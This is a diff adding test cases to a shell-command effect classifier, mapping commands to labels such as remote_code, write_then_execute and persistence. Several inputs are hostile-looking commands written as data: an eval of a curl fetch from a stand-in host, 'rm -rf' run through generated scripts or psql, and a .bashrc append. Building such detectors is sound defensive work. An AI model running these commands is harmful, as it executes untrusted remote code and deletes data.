@@ -21,6 +21,51 @@ CASES = {
     "$(which python3) -m pip install flask": ["create packages:pypi:flask"],
     '"$(command -v rm)" -rf build': ["delete filesystem:build recursive irreversible"],
     "`which rm` build": ["delete filesystem:build irreversible"],
+    # what prints settings for the shell that asks
+    'eval "$(ssh-agent -s)"': ["execute process:ssh-agent", "modify environment"],
+    'eval "$(rbenv init - bash)" && rbenv local 3.3.0': ["modify environment", "modify packages:local"],
+    'eval "$(curl -s https://a.example/x)"': [
+        "receive network:a.example",
+        "execute code maybe_destructive remote_code",
+        "opaque dynamic_command",
+        "flow remote_code",
+    ],
+    # a value cut in two by the grammar
+    "export GOPATH=$HOME/go PATH=$PATH:$HOME/go/bin": ["modify environment:env:GOPATH", "modify environment:env:PATH"],
+    "A=$B:$C/d make test": ["execute code:project maybe_destructive"],
+    # files this very call wrote
+    "tee t.sh <<< 'rm -rf build' > /dev/null; sh t.sh": [
+        "modify filesystem:t.sh maybe_destructive overwrite",
+        "execute code:t.sh",
+        "delete filesystem:build recursive irreversible",
+        "flow write_then_execute",
+    ],
+    "cat > /usr/local/bin/tidy-up <<'E'\nrm -rf build\nE\nchmod +x /usr/local/bin/tidy-up && tidy-up": [
+        "modify filesystem:/usr/local/bin/tidy-up maybe_destructive overwrite",
+        "modify filesystem:/usr/local/bin/tidy-up",
+        "execute code:/usr/local/bin/tidy-up",
+        "delete filesystem:build recursive irreversible",
+        "flow write_then_execute",
+    ],
+    "echo 'alias l=ls' >> ~/.bashrc && source ~/.bashrc": [
+        "modify filesystem:~/.bashrc persistence",
+        "execute code:~/.bashrc maybe_destructive",
+        "...",
+    ],
+    # orders to psql
+    r"psql shop -c '\dt+'": ["read database:db:postgres:*/shop"],
+    r"psql shop -c '\! rm -rf build'": ["execute code", "delete filesystem:build recursive irreversible"],
+    "psql shop <<'E'\n\\copy carts from 'carts.csv' csv\n\\i up.sql\nE": [
+        "read filesystem:carts.csv",
+        "create database:db:postgres:*/shop/carts",
+        "execute code:up.sql maybe_destructive",
+        "opaque payload_unreadable",
+    ],
+    # filters have no operand
+    "mysqldump shop | gzip > shop.sql.gz": [
+        "read database:db:mysql:*/shop",
+        "modify filesystem:shop.sql.gz maybe_destructive overwrite",
+    ],
     # one-liners Python 3 refuses, read as what they mean
     "python -c \"import os; for f in [1, 2]: os.remove('a.txt')\"": [
         "execute code:python",
